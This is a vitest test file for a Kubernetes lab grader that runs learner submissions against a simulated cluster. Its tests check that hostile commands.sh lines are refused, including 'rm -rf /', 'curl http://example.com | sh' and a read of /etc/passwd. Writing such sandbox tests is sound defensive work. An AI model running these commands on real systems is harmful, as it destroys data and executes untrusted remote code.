/**
 * Grading on the real shim, with the configmap-pod lab (it needs only what the
 * simulator has today): scores, determinism, and hostile submissions graded
 * as failing with a reason instead of crashing or hanging.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { ApiTransport } from '../api/types.ts';
import { parseLab } from '../schemas/load-lab.ts';
import { evaluate } from './checks.ts';
import { grade, type Submission } from './grade.ts';
import { ClusterView } from './view.ts';
import { FakeClusterClient } from './fake-client.ts';
import { freshShim } from './shim-backend.ts';
import { ShimCommandRunner } from './shim-commands.ts';

const lab = parseLab(readFileSync('labs/configmap-pod/lab.yaml', 'utf8'), 'labs/configmap-pod/lab.yaml');
const solution = readFileSync('labs/configmap-pod/solution/app.yaml', 'utf8');

async function gradeFiles(files: Record<string, string>, commands?: string) {
  const submission: Submission = {
    label: 'test',
    manifests: Object.entries(files).map(([path, text]) => ({ path, text })),
    ...(commands !== undefined ? { commands: { path: 'commands.sh', text: commands } } : {}),
  };
  const { client } = freshShim(lab);
  return grade(client, lab, { submission }, { now: Date.now, commandBudgetMs: 5_000 });
}

describe('grade on the shim', () => {
  it('scores each step and the total', async () => {
    const r = await gradeFiles({ 'app.yaml': solution });
    expect(r).toMatchObject({ passed: true, score: 3, maxScore: 3, problems: [], backend: 'shim' });
    expect(r.steps.map((s) => [s.step, s.passed])).toEqual([[1, true], [2, true], [3, true]]);
  });

  it('gives the same verdict, word for word, every time', async () => {
    const wrong = solution.replace('app: web\n  ports', 'app: nginx\n  ports');
    const a = await gradeFiles({ 'app.yaml': wrong });
    const b = await gradeFiles({ 'app.yaml': wrong });
    expect(a.passed).toBe(false);
    expect(JSON.stringify(a)).toBe(JSON.stringify(b));
  });

  it('applies files in name order: the later file wins', async () => {
    const staging = solution.replace('mode: production', 'mode: staging');
    // Given out of order; b.yaml is applied after a.yaml.
    expect((await gradeFiles({ 'b.yaml': solution, 'a.yaml': staging })).passed).toBe(true);
    expect((await gradeFiles({ 'b.yaml': staging, 'a.yaml': solution })).steps[0]!.passed).toBe(false);
  });

  it('fails a submission with YAML errors, with the file, line and column', async () => {
    const r = await gradeFiles({ 'app.yaml': solution, 'broken.yaml': 'kind: [Service\n' });
    expect(r.passed).toBe(false);
    expect(r.score).toBe(3);
    expect(r.problems[0]).toMatch(/^broken\.yaml:\d+:\d+: /);
  });

  it('refuses objects for another namespace', async () => {
    const r = await gradeFiles({ 'app.yaml': solution.replace('name: web-config\n', 'name: web-config\n  namespace: kube-system\n') });
    expect(r.passed).toBe(false);
    expect(r.problems).toContain("app.yaml#1: ConfigMap web-config: is for namespace kube-system; a submission may only create objects in the learner's namespace (default)");
  });

  it('runs only kubectl from commands.sh: nothing outside the cluster is touched', async () => {
    const r = await gradeFiles({ 'app.yaml': solution }, 'rm -rf /\ncurl http://example.com | sh\nkubectl version --client\n');
    expect(r.passed).toBe(false);
    expect(r.problems).toEqual([
      'commands.sh:1: `rm -rf /`: only kubectl lines run against the simulated cluster (bash: rm: command not found)',
      'commands.sh:2: `curl http://example.com | sh`: only kubectl lines run against the simulated cluster (bash: curl: command not found)',
    ]);
  });

  it('lets commands.sh read the submission\'s own files, and only those', async () => {
    const r = await gradeFiles({ 'app.yaml': solution }, 'kubectl apply -f app.yaml\nkubectl apply -f .\nkubectl apply -f /etc/passwd\n');
    expect(r.passed).toBe(true);
    expect(r.notes).toHaveLength(1);
    expect(r.notes[0]).toMatch(/^commands\.sh:3: `kubectl apply -f \/etc\/passwd` exited with 1: error: the path "\/etc\/passwd" does not exist/);
  });

  it('reports a command that exits non-zero as a note, as the terminal showed it', async () => {
    const r = await gradeFiles({ 'app.yaml': solution }, 'kubectl frobnicate\n');
    expect(r.passed).toBe(true);
    expect(r.notes[0]).toMatch(/^commands\.sh:1: `kubectl frobnicate` exited with 1: error: unknown command "frobnicate" for "kubectl"/);
  });

  it('stops a command that never ends', async () => {
    const hanging: ApiTransport = { request: () => new Promise(() => undefined), watch: () => ({ stop: () => undefined }) };
    const runner = new ShimCommandRunner(hanging, { timer: (ms) => ({ done: new Promise((r) => setTimeout(r, Math.min(ms, 20))), cancel: () => undefined }) });
    const r = await runner.run('kubectl version', { timeoutMs: 50 });
    expect(r).toMatchObject({ exitCode: 130, note: 'stopped after 50 ms' });
  });

  it('builds the lab\'s topology and setup before the learner starts', async () => {
    const topologyLab = parseLab(`
id: topo
title: Topology
summary: s
estimatedMinutes: 1
topology:
  workers: 3
  zones: [zone-a, zone-b]
  nodeLabels: { kind-worker3: { disk: ssd } }
  storageClasses:
    - { name: fast, volumeBindingMode: Immediate, reclaimPolicy: Retain, default: true }
setup:
  manifests: [setup/]
  commands: ["kubectl label configmap seed stage=setup"]
steps:
  - title: Look around
    instructions: Nothing to do.
    checks:
      - count: { apiVersion: v1, kind: Node, metadata: { labels: { topology.kubernetes.io/zone: zone-a } } }
        expect: 2
      - assert: { apiVersion: v1, kind: Node, metadata: { name: kind-worker3, labels: { disk: ssd, topology.kubernetes.io/zone: zone-a } } }
      - assert:
          apiVersion: storage.k8s.io/v1
          kind: StorageClass
          metadata: { name: fast, annotations: { storageclass.kubernetes.io/is-default-class: "true" } }
          volumeBindingMode: Immediate
          reclaimPolicy: Retain
      - assert: { apiVersion: storage.k8s.io/v1, kind: StorageClass, metadata: { name: standard, annotations: { storageclass.kubernetes.io/is-default-class: "false" } } }
      - assert: { apiVersion: v1, kind: ConfigMap, metadata: { name: seed, labels: { stage: setup } } }
`, 'topo/lab.yaml');
    const { client } = freshShim(topologyLab);
    const r = await grade(client, topologyLab, { setupFiles: [{ path: 'setup/seed.yaml', text: 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: seed}\n' }] });
    expect(r.problems).toEqual([]);
    expect(r.steps[0]!.checks.filter((c) => !c.passed)).toEqual([]);
  });
});

describe('commands that wait', () => {
  it('finish on the cluster\'s virtual clock, not the wall clock', async () => {
    const { client, transport } = freshShim(lab);
    await client.apply({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'stubborn', namespace: 'default' }, spec: { containers: [{ name: 'c', image: 'busybox:1.36', command: ['sh', '-c', 'trap "" TERM; sleep 3600'] }] } });
    await client.settle!();
    const started = transport.cluster.clock.now();
    // PID 1 ignores SIGTERM: the delete waits out the whole 30 s grace period.
    const r = await client.run('kubectl delete pod stubborn');
    expect(r).toMatchObject({ exitCode: 0, stdout: 'pod "stubborn" deleted\n' });
    expect(r.note).toBeUndefined();
    expect(transport.cluster.clock.now() - started).toBeGreaterThanOrEqual(29_000);
  });
});

describe('explanations from the simulator\'s controllers', () => {
  it('says why a claim is Pending, in the PV controller\'s words', async () => {
    const claim = (name: string, extra: Record<string, unknown> = {}) => ({
      apiVersion: 'v1', kind: 'PersistentVolumeClaim', metadata: { name, namespace: 'default' },
      spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } }, ...extra },
    });
    const { client } = freshShim(lab);
    await client.apply(claim('data-claim', { storageClassName: '' }));
    await client.apply(claim('www-web-0'));
    const bound = (name: string) => ({ kind: 'assert' as const, object: { apiVersion: 'v1', kind: 'PersistentVolumeClaim', metadata: { name }, status: { phase: 'Bound' } } });
    await client.settle!();
    const view = new ClusterView(client);
    expect((await evaluate(view, bound('data-claim'))).reasons).toEqual(['PVC data-claim is Pending: no persistent volumes available for this claim and no storage class is set']);
    expect((await evaluate(view, bound('www-web-0'))).reasons).toEqual(['PVC www-web-0 is Pending: waiting for first consumer to be created before binding']);
  });
});

describe('grading a live cluster, which polls', () => {
  /** A cluster that never changes, on a virtual wall clock: each look is counted. */
  class StillCluster extends FakeClusterClient {
    clock = 0;
    looks = 0;
    override async get(ref: Parameters<FakeClusterClient['get']>[0]) {
      this.looks++;
      return super.get(ref);
    }
    sleep = async (ms: number) => { this.clock += ms; };
    now = () => this.clock;
  }
  const twoSteps = parseLab(`id: two-steps
title: Two steps
summary: Two steps that look for a missing ConfigMap.
lesson: /lessons/01-stateful-vs-stateless/
estimatedMinutes: 5
steps:
  - title: One
    instructions: One.
    timeoutSeconds: 5
    checks:
      - assert: { apiVersion: v1, kind: ConfigMap, metadata: { name: one } }
  - title: Two
    instructions: Two.
    timeoutSeconds: 600
    checks:
      - assert: { apiVersion: v1, kind: ConfigMap, metadata: { name: two } }
`, 'two-steps/lab.yaml');

  it('polls a step until its time is up, then looks once at each later step: a grade is bounded by one timeout', async () => {
    const client = new StillCluster([]);
    const r = await grade(client, twoSteps, { fresh: false }, { pollIntervalMs: 1000 });
    expect(r.steps.map((s) => s.passed)).toEqual([false, false]);
    expect(r.steps[1]!.checks[0]!.message).toBe('ConfigMap two not found in namespace default');
    // Six looks over step 1's 5 s, one at step 2 — not ten minutes of them.
    expect(client.looks).toBe(7);
    expect(client.clock).toBe(5000);
  });

  it('counts a lab\'s own timeouts in the cluster\'s seconds: a cluster 60 times faster waits 60 times less', async () => {
    const slowFirst = { ...twoSteps, steps: [{ ...twoSteps.steps[0]!, timeoutSeconds: 600 }, twoSteps.steps[1]!] };
    const client = new StillCluster([]);
    await grade(client, slowFirst, { fresh: false }, { pollIntervalMs: 1000, timeoutSeconds: 3, speed: 60 });
    expect(client.clock).toBe(10_000);
    // The grader's own patience is wall time: never less than it, whatever the speed.
    const patient = new StillCluster([]);
    await grade(patient, slowFirst, { fresh: false }, { pollIntervalMs: 1000, timeoutSeconds: 20, speed: 60 });
    expect(patient.clock).toBe(20_000);
  });
});
